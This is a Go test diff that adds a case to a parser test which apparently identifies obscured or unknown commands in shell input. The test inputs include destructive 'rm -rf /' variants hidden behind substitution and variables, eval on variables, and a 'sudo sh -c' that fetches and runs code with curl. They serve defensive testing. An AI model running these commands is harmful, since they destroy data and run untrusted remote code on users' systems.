@@ -693,6 +693,7 @@ func TestParseUnknown(t *testing.T) {
 		{"$(echo rm) -rf /", []string{"$(echo rm)"}},
 		{`"$CMD" -rf /`, []string{`"$CMD"`}},
 		{"${x}rm -rf /", []string{"${x}rm"}},
+		{`X="rm -rf /"; $X`, []string{"$X"}},
 		{`eval "$X"`, []string{`eval "$X"`}},
 		{`bash -c "$SCRIPT"`, []string{`bash -c "$SCRIPT"`}},
 		{`sudo sh -c "$(curl -s x.example)"`, []string{`sh -c "$(curl -s x.example)"`}},
